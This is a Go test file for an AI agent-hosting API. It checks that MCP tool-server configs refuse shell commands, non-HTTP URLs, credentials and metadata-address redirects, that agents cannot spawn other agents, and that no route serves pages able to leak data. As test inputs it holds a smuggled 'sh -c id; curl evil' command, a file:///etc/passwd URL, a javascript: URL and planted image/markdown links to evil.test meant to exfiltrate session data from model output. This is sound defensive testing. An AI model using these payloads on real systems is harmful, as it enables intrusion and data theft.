package api_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/outboard-dev/outboard/internal/api"
)

// Fails if a tool server can be a program of this host, an address that is none, or one with a password in it,
// or if the server itself speaks to a tool server because an agent names one: where its documents lead
// (authorization servers, token endpoints) nobody could say.
func TestToolServersAreNames(t *testing.T) {
	b := newBench(t)
	var asked atomic.Int64
	inside := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		asked.Add(1)
		w.Header().Set("WWW-Authenticate", `Bearer resource_metadata="http://169.254.169.254/latest"`)
		w.WriteHeader(http.StatusUnauthorized)
	}))
	defer inside.Close()
	agent := func(server string) string {
		return `{"name":"a","model":"script/steps","tools":[{"type":"agent_toolset_20260401"},{"type":"mcp_toolset","mcp_server_name":"x"}],"mcp_servers":[` + server + `]}`
	}
	for word, server := range map[string]string{
		"must be url":         `{"type":"stdio","name":"x","url":"https://x.test"}`,
		"unknown field":       `{"type":"url","name":"x","url":"https://x.test","command":"sh","args":["-c","id; curl evil"],"env":{"LD_PRELOAD":"x"}}`,
		"http(s) URL":         `{"type":"url","name":"x","url":"javascript:alert(1)"}`,
		"without credentials": `{"type":"url","name":"x","url":"https://u:p@x.test/"}`,
		"of at most":          `{"type":"url","name":"x","url":"file:///etc/passwd"}`,
		"MCP server \"x\"":    `{"type":"url","name":"x","url":"sh -c id"}`,
		"authorization_token": `{"type":"url","name":"x","url":"https://x.test","authorization_token":"t"}`,
		"mcp_servers[0].url":  `{"type":"url","name":"x"}`,
	} {
		b.refused(400, word, "POST", "/v1/agents", agent(server))
	}
	// the control: an address is taken
	id := b.ok("POST", "/v1/agents", agent(`{"type":"url","name":"x","url":"`+inside.URL+`/mcp"}`)).str("id")
	env := b.environment()
	b.refused(501, "MCP servers", "POST", "/v1/sessions", map[string]any{"agent": id, "environment_id": env})
	over := map[string]any{"type": "agent_with_overrides", "id": b.agent(), "version": 1,
		"mcp_servers": []any{map[string]any{"type": "url", "name": "x", "url": inside.URL}},
		"tools":       []any{map[string]any{"type": "mcp_toolset", "mcp_server_name": "x"}}}
	b.refused(501, "MCP servers", "POST", "/v1/sessions", map[string]any{"agent": over, "environment_id": env})
	without := map[string]any{"type": "agent_with_overrides", "id": id, "version": 1, "mcp_servers": []any{},
		"tools": []any{}}
	b.ok("POST", "/v1/sessions", map[string]any{"agent": without, "environment_id": env}) // the control
	running := b.session()
	b.refused(501, "MCP servers", "POST", "/v1/sessions/"+running,
		map[string]any{"agent": map[string]any{"mcp_servers": over["mcp_servers"], "tools": over["tools"]}})
	if n := asked.Load(); n != 0 {
		t.Errorf("the server inside was asked %d times", n)
	}
	if resp, err := http.Get(inside.URL); err != nil || asked.Load() != 1 {
		t.Errorf("the control: the server does not count: %v", err)
	} else {
		resp.Body.Close()
	}
}

// Fails if an agent can be given other agents to run, which nothing here keeps within its own rights and budget,
// by any route that takes an agent, or by a tool that the model could call.
func TestAgentsRunNoOthers(t *testing.T) {
	b := newBench(t)
	roster := map[string]any{"type": "coordinator", "agents": []any{map[string]any{"type": "self"}}}
	agent := b.agent()
	b.ok("POST", "/v1/agents", map[string]any{"name": "a", "model": "m", "multiagent": nil}) // the control: none
	b.refused(501, "multiagent", "POST", "/v1/agents", map[string]any{"name": "a", "model": "m", "multiagent": roster})
	b.refused(501, "multiagent", "POST", "/v1/agents/"+agent, map[string]any{"version": 1, "multiagent": roster})
	over := map[string]any{"type": "agent_with_overrides", "id": agent, "version": 1}
	b.ok("POST", "/v1/sessions", map[string]any{"agent": over, "environment_id": b.environment()}) // the control
	over["multiagent"] = roster
	b.refused(400, "multiagent", "POST", "/v1/sessions", map[string]any{"agent": over,
		"environment_id": b.environment()})
	for _, tool := range []string{"task", "agent", "spawn_agent", "create_session", "fork"} {
		b.refused(400, "not a built-in tool", "POST", "/v1/agents", map[string]any{"name": "a", "model": "m",
			"tools": []any{
				map[string]any{"type": "agent_toolset_20260401", "configs": []any{map[string]any{"name": tool}}}}})
	}
}

// Fails if any route answers with a page, or with something that a browser would take for one and load pictures,
// styles, fonts or links of: what a model wrote could carry a session's data out by an address in it.
func TestNoPages(t *testing.T) {
	b := newBench(t)
	const planted = `<html><img src="https://evil.test/?leak"><link rel=prefetch href="https://evil.test"></html> ![x](https://evil.test/?leak)`
	session := b.session()
	b.ok("POST", "/v1/sessions/"+session+"/events", send(message(planted)))
	b.ok("POST", "/v1/agents", map[string]any{"name": planted, "model": "m", "description": planted})
	seen, shown := 0, 0
	for _, route := range append(api.Routes(), "GET /", "GET /index.html", "GET /favicon.ico",
		"GET /nowhere"+planted[:1]) {
		method, path, _ := strings.Cut(route, " ")
		if method != "GET" || strings.HasSuffix(path, "/stream") {
			continue
		}
		path = strings.ReplaceAll(path, "{session}", session)
		r := b.do(method, strings.NewReplacer("{", "", "}", "", ".", "", "<", "%3C").Replace(path), nil,
			func(q *http.Request) { q.Header.Set("Accept", "text/html,*/*;q=0.1") })
		seen++
		if strings.Contains(string(r.body), "evil.test") {
			shown++
		}
		kind, policy := r.header.Get("Content-Type"), r.header.Get("Content-Security-Policy")
		if strings.Contains(kind, "html") || strings.Contains(kind, "xml") || strings.Contains(kind, "svg") ||
			!strings.Contains(policy, "default-src 'none'") ||
			!strings.Contains(policy, "sandbox") || r.header.Get("X-Content-Type-Options") != "nosniff" ||
			r.header.Get("Link") != "" || r.header.Get("Referrer-Policy") != "no-referrer" {
			t.Errorf("%s: %s, %v", route, kind, r.header)
		}
	}
	if seen < 40 || shown < 2 {
		t.Errorf("%d routes, of which %d show what was planted", seen, shown)
	}
	// What is downloaded may be a page, and is not shown as one.
	file := b.upload("file", "p.html:"+planted).str("id")
	r := b.do("GET", fmt.Sprintf("/v1/files/%s/content", file), nil)
	if r.status == 200 && !strings.HasPrefix(r.header.Get("Content-Disposition"), "attachment") {
		t.Errorf("a file: %d %v", r.status, r.header)
	}
	// The control: a page of another server would be found.
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_,
			_ = io.WriteString(w, planted)
	}))
	defer other.Close()
	resp, err := http.Get(other.URL)
	if err != nil {
		t.Fatal(err)
	}
	if resp.Body.Close(); !strings.Contains(resp.Header.Get("Content-Type"), "html") {
		t.Errorf("the control: %v", resp.Header)
	}
}

// Fails if a program that was written for a path's old name breaks before the release that drops it, or is not
// told that it will; or if an old path lets in whom the new one refuses.
func TestOldPaths(t *testing.T) {
	b := newBench(t)
	names := map[string]string{"/v1/boxes": "/v1/sandboxes", "/v1/outboard/sandboxes": "/v1/outboard/machines"}
	seen := 0
	for _, route := range api.Routes() {
		method, path, _ := strings.Cut(route, " ")
		for now, old := range names {
			rest, ok := strings.CutPrefix(path, now)
			if !ok {
				continue
			}
			seen++
			for _, key := range []string{"", "obk_none"} {
				edit := func(q *http.Request) {
					if key != "" {
						q.Header.Set("X-Api-Key", key)
					}
				}
				was, is := b.do(method, filled(old+rest), "{}", edit), b.do(method, filled(now+rest), "{}", edit)
				if was.status != is.status || was.status == http.StatusNotFound && !strings.Contains(path, "{") {
					t.Errorf("%s %s answers %d, and %s %d: %s", method, old+rest, was.status, path, is.status, was.body)
				}
				if was.header.Get("Deprecation") == "" || is.header.Get("Deprecation") != "" {
					t.Errorf("%s: Deprecation is %q on the old path, %q on the new", route, was.header["Deprecation"],
						is.header["Deprecation"])
				}
				if key != "" && was.status != http.StatusUnauthorized { // the control of the key
					t.Errorf("%s %s lets in a key that is none: %d", method, old+rest, was.status)
				}
			}
		}
	}
	if seen < 18 {
		t.Errorf("%d routes have an old path", seen)
	}
	if r := b.do("GET", "/v1/sandboxes/nowhere/at/all", nil); r.status != http.StatusNotFound ||
		r.header.Get("Deprecation") != "" {
		t.Errorf("what never was: %d %v", r.status, r.header)
	}
}
